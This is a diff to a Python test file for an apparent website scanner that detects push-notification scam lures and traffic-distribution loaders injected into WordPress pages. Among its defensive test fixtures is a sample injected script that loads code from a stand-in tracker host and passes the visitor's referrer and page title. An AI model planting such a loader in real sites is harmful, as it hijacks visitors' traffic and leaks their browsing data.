@@ -555,7 +555,19 @@ def test_a_lure_beside_a_push_service_is_bait(sdk: str, said: str,
     "We use cookies. Click Allow to continue.",
     "Мошенники пишут: «Нажмите «Разрешить», чтобы подтвердить, что вы не робот». Не делайте "
     "этого.",
-    "Permitir que los usuarios continúen leyendo es nuestra prioridad."])
+    "Permitir que los usuarios continúen leyendo es nuestra prioridad.",
+    # an article about push scams says who asks, quoted or not
+    "Мошенники просят нажать «Разрешить», чтобы доказать, что вы не робот.",
+    "На таких сайтах пишут: нажмите Разрешить, если вы не робот. Не делайте этого.",
+    "Situs palsu meminta Anda mengklik Izinkan untuk membuktikan bahwa Anda bukan robot.",
+    "Scam sites ask you to click Allow to prove you are not a robot. Don't.",
+    # an app's install steps, a consent notice naming personal data, a copyright line
+    "iPhoneでは「許可」をタップしてダウンロードを続けてください。",
+    "Чтобы скачать приложение, нажмите «Разрешить» в окне браузера.",
+    "Мы обрабатываем персональные данные. Нажмите «Разрешить», чтобы продолжить работу с "
+    "сайтом.",
+    "Usamos tecnologias de rastreamento. Clique em Permitir para continuar navegando.",
+    "版权所有 未经允许 禁止转载 点击下载APP"])
 def test_a_sites_own_prompt_in_another_language_is_no_bait(
         said: str, audit_listed: AuditListed) -> None:
     report = audit_listed(wp_page(head=ONESIGNAL, post=f"<p>{said}</p>"), URL)
@@ -580,6 +592,25 @@ def test_a_rotation_picked_through_a_name_is_dollyway(audit_listed: AuditListed)
         "var u=h[Math.floor(Math.random()*h.length)];s.src=u"))
     report = audit_listed(page, URL)
     assert ("tds-loader", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+_PIXEL = ("<noscript><img src='https://trk.dealsfunnel.test/px.gif?c=x9Kc2p' width='1' "
+          "height='1' alt=''></noscript>")
+_CREATED = (
+    "<script>var s=document.createElement('script');s.src='https://trk.dealsfunnel.test/x9Kc"
+    "2p.js?r='+encodeURIComponent(document.referrer)+'&t='+encodeURIComponent(document."
+    "title);document.head.appendChild(s);</script>")
+
+
+@pytest.mark.parametrize("tag", [KEITARO, _CREATED], ids=["Keitaro's parameters",
+                                                          "a created script element"])
+def test_a_no_script_pixel_beside_a_tds_tag_does_not_make_it_a_counter(
+        tag: str, audit_listed: AuditListed) -> None:
+    """A counter's no-script image beside its script excused the referrer-keyed tag; an
+    injector pastes a pixel from its tracker's host as easily: only an old-style counter's
+    written script, with no TDS's parameters, is excused."""
+    report = audit_listed(wp_page(footer=tag + _PIXEL), URL)
+    assert ("tds-loader", M) in [(f.kind, f.severity) for f in report.findings]
 
 
 def test_sign1_guarding_its_load_with_an_if_block_is_found(audit_listed: AuditListed) -> None:
